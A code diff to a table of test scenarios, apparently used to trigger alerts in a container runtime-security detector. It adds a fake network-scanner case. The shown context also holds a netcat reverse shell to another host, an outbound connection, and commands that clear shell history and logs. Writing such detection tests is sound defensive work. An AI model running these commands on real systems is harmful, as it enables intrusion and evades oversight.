@@ -104,6 +104,7 @@ SCENARIOS = {
     "New program run in container": "cp /bin/busybox /tmp/busybox; /tmp/busybox true",
     "Unexpected outbound connection": f"(nc -l -p 4444 </dev/null & {until(f'echo | nc {ELSEWHERE} 4444')})",
     "Reverse shell": f"(echo exit | nc -l -p 4445 & {until(f'nc {ELSEWHERE} 4445 -e /bin/sh')})",
+    "Network scanner started": "nc -z -w 1 127.0.0.1 7; cp /bin/busybox /tmp/nmap; /tmp/nmap -sS 127.0.0.1",
     "Shell history cleared": "echo x > /root/.bash_history; rm /root/.bash_history",
     "Log cleared": "mkdir -p /var/log; echo x > /var/log/app.log; : > /var/log/app.log",
 }
